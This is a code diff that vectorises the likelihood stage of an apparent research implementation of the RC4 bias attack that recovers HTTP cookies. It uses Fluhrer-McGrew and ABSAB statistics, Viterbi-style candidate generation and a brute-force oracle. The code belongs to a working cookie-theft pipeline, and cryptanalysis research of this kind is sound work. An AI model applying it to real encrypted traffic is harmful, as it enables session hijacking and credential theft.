@@ -21,15 +21,13 @@ Pipeline:
 from __future__ import annotations
 
 from dataclasses import dataclass
-from typing import Iterable
 
 import numpy as np
 
 from ..biases.fluhrer_mcgrew import fm_biased_cells, position_to_counter
-from ..biases.mantin_absab import MAX_GAP, usable_gaps
-from ..core.candidates.viterbi import CandidateList, algorithm2
-from ..core.likelihood.absab import absab_log_likelihoods
-from ..core.likelihood.combine import combine_likelihoods
+from ..biases.mantin_absab import MAX_GAP, absab_alpha, usable_gaps
+from ..core.candidates.matrix import CandidateMatrix
+from ..core.candidates.viterbi import algorithm2
 from ..core.likelihood.digraph import digraph_log_likelihoods
 from ..errors import AttackError
 from .bruteforce import BruteForceOracle, CandidatePruner
@@ -316,8 +314,26 @@ class CookieStatistics:
             self.ingest_fragment(fragment, offset)
 
 
+#: Flat differential index (mu1 << 8) | mu2 of every (mu1, mu2) cell;
+#: XORing it with a known-pair key gives eq 24's gather index directly.
+_BASE_IDX = (
+    (np.arange(256, dtype=np.intp)[:, None] << 8)
+    | np.arange(256, dtype=np.intp)[None, :]
+).reshape(-1)
+
+
 def transition_log_likelihoods(stats: CookieStatistics) -> np.ndarray:
     """Combined FM + ABSAB log-likelihoods per transition (§4.3, eq 25).
+
+    The ABSAB estimates (eq 22/24) are computed for *all* alignments at
+    once on the contiguous ``(A, 65536)`` backing matrix — one
+    broadcast multiply-add for every eq 22 vector, then one 65536-entry
+    gather per alignment via the XOR identity
+    ``((mu1^k1)<<8) | (mu2^k2) == ((mu1<<8)|mu2) ^ ((k1<<8)|k2)`` —
+    instead of re-deriving each alignment from its dict entry.  The
+    per-element operations and the eq 25 accumulation order match the
+    per-alignment reference (:func:`absab_log_likelihoods` +
+    :func:`combine_likelihoods`) bit for bit.
 
     Returns:
         float64 (num_transitions, 256, 256) ready for Algorithm 2.
@@ -327,23 +343,52 @@ def transition_log_likelihoods(stats: CookieStatistics) -> np.ndarray:
     total = float(stats.num_requests)
     if total <= 0:
         raise AttackError("no requests ingested")
+
+    keys = list(stats.absab_counts)
+    if stats.absab_matrix is not None:
+        counts_all = stats.absab_matrix.astype(np.float64)
+    elif keys:
+        counts_all = np.stack(
+            [np.asarray(c, dtype=np.float64) for c in stats.absab_counts.values()]
+        )
+    else:
+        counts_all = np.zeros((0, 65536), dtype=np.float64)
+    # Eq 22 for every alignment row at once.  The per-gap scalars are
+    # computed exactly as the scalar reference does, so the broadcast
+    # multiply-add below reproduces its rows bitwise.
+    gap_scalars: dict[int, tuple[float, float]] = {}
+    coef = np.empty(len(keys), dtype=np.float64)
+    offset = np.empty(len(keys), dtype=np.float64)
+    for row, (_, gap, _) in enumerate(keys):
+        if gap not in gap_scalars:
+            alpha = absab_alpha(gap)
+            log_alpha = np.log(alpha)
+            log_u = np.log((1.0 - alpha) / (65536 - 1))
+            gap_scalars[gap] = (log_alpha - log_u, total * log_u)
+        coef[row], offset[row] = gap_scalars[gap]
+    lam_hat = counts_all * coef[:, None] + offset[:, None]
+
+    rows_by_transition: dict[int, list[int]] = {}
+    for row, (t, _, _) in enumerate(keys):
+        rows_by_transition.setdefault(t, []).append(row)
+
     loglik = np.empty((len(transitions), 256, 256), dtype=np.float64)
     for t, r in enumerate(transitions):
         cells = fm_biased_cells(position_to_counter(r))
         mass = sum(p for _, p in cells)
         uniform_p = (1.0 - mass) / (65536 - len(cells))
-        estimates = [
-            digraph_log_likelihoods(stats.fm_counts[t], cells, uniform_p, total)
-        ]
-        for (tt, gap, side), counts in stats.absab_counts.items():
-            if tt != t:
-                continue
+        combined = digraph_log_likelihoods(
+            stats.fm_counts[t], cells, uniform_p, total
+        )
+        for row in rows_by_transition.get(t, ()):
+            _, gap, side = keys[row]
             if side == "after":
                 known = (layout.known_byte(r + 2 + gap), layout.known_byte(r + 3 + gap))
             else:
                 known = (layout.known_byte(r - 2 - gap), layout.known_byte(r - 1 - gap))
-            estimates.append(absab_log_likelihoods(counts, gap, known, total))
-        loglik[t] = combine_likelihoods(*estimates)
+            key = (known[0] << 8) | known[1]
+            combined += lam_hat[row, _BASE_IDX ^ key].reshape(256, 256)
+        loglik[t] = combined
     return loglik
 
 
@@ -352,8 +397,8 @@ def recover_candidates(
     num_candidates: int,
     *,
     charset: bytes = COOKIE_CHARSET,
-) -> CandidateList:
-    """Likelihoods -> Algorithm 2 candidate list over the cookie alphabet."""
+) -> CandidateMatrix:
+    """Likelihoods -> Algorithm 2 candidate matrix over the cookie alphabet."""
     layout = stats.layout
     loglik = transition_log_likelihoods(stats)
     start, end = layout.cookie_span
@@ -398,14 +443,10 @@ def run_attack(
             declares a tighter alphabet than ``charset``.
     """
     candidates = recover_candidates(stats, num_candidates, charset=charset)
-    plaintexts: Iterable[bytes] = candidates.plaintexts
-    if pruner is not None:
-        plaintexts = pruner.filter(plaintexts)
-    cookie, attempts = oracle.search(plaintexts)
-    rank = candidates.rank_of(cookie)
+    cookie, attempts, rank = oracle.search_matrix(candidates.matrix, pruner=pruner)
     return CookieAttackResult(
         cookie=cookie,
-        rank=rank if rank is not None else attempts - 1,
+        rank=rank,
         attempts=attempts,
         num_requests=stats.num_requests,
         pruned=pruner.pruned if pruner is not None else 0,
